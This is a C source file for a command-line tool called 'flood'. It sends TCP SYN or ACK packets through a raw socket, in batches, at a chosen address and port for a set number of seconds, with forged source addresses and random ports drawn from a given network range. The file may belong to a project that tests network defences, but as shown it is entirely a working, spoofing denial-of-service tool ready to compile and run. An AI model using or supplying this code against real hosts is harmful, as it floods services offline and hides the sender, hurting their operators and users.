/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * flood syn|ack SECONDS NETWORK BITS ADDRESS PORT: as many packets as there is time for, from
 * random addresses of NETWORK/BITS and random ports. Prints how many.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "lib/clock.h"

#define BATCH 64

struct packet {
	struct iphdr ip;
	struct tcphdr tcp;
};

struct flood {
	struct packet packets[BATCH];
	struct iovec iov[BATCH];
	struct mmsghdr messages[BATCH];
	struct sockaddr_in to;
	uint32_t network, hosts; /* host order; hosts: a mask */
	uint64_t random;
	uint32_t pseudo; /* what of the checksum is always the same */
};

static uint32_t dice(struct flood *f)
{
	f->random = f->random * 6364136223846793005 + 1442695040888963407;
	return (uint32_t)(f->random >> 32);
}

static uint32_t sum(const void *data, size_t len)
{
	const uint8_t *p = data;
	uint32_t total = 0;

	for (size_t i = 0; i < len; i += 2)
		total += (uint32_t)p[i] << 8 | p[i + 1];
	return total;
}

static void packet_draw(struct flood *f, struct packet *p)
{
	uint32_t total;

	p->ip.saddr = htonl(f->network | (dice(f) & f->hosts));
	p->tcp.source = htons((uint16_t)(1024 + dice(f) % 64000));
	p->tcp.seq = htonl(dice(f));
	p->tcp.check = 0;
	total = f->pseudo + sum(&p->ip.saddr, 4) + sum(&p->tcp, sizeof(p->tcp));
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	p->tcp.check = htons((uint16_t)~total);
}

static void flood_init(struct flood *f, char **words)
{
	const unsigned bits = (unsigned)strtoul(words[4], NULL, 10);
	struct in_addr network;

	*f = (struct flood){ .to = { .sin_family = AF_INET }, .random = 1 };
	if (inet_pton(AF_INET, words[3], &network) != 1 ||
	    inet_pton(AF_INET, words[5], &f->to.sin_addr) != 1) {
		fputs("not an address\n", stderr);
		exit(1);
	}
	f->network = ntohl(network.s_addr);
	f->hosts = UINT32_MAX >> bits;
	f->pseudo = sum(&f->to.sin_addr, 4) + IPPROTO_TCP + sizeof(struct tcphdr);
	for (int i = 0; i < BATCH; i++) {
		f->packets[i] = (struct packet){
			.ip = { .version = 4,
				.ihl = 5,
				.ttl = 64,
				.protocol = IPPROTO_TCP,
				.tot_len = htons(sizeof(struct packet)),
				.daddr = f->to.sin_addr.s_addr },
			.tcp = { .dest = htons((uint16_t)strtoul(words[6], NULL, 10)),
				 .doff = 5,
				 .window = htons(65535) },
		};
		f->packets[i].tcp.syn = strcmp(words[1], "syn") == 0;
		f->packets[i].tcp.ack = strcmp(words[1], "syn") != 0;
		f->iov[i] = (struct iovec){ &f->packets[i], sizeof(struct packet) };
		f->messages[i].msg_hdr = (struct msghdr){ .msg_name = &f->to,
							  .msg_namelen = sizeof(f->to),
							  .msg_iov = &f->iov[i],
							  .msg_iovlen = 1 };
	}
}

int main(int argc, char **argv)
{
	static struct flood f;
	uint64_t sent = 0;
	struct instant end;
	int fd;

	if (argc != 7) {
		fputs("flood syn|ack SECONDS NETWORK BITS ADDRESS PORT\n", stderr);
		return 1;
	}
	flood_init(&f, argv);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("flood");
		return 1;
	}
	end = instant_after_s(clock_now(), strtoll(argv[2], NULL, 10));
	while (!instant_reached(end, clock_now())) {
		int n;

		for (int i = 0; i < BATCH; i++)
			packet_draw(&f, &f.packets[i]);
		n = sendmmsg(fd, f.messages, BATCH, 0);
		if (n > 0)
			sent += (uint64_t)n;
	}
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
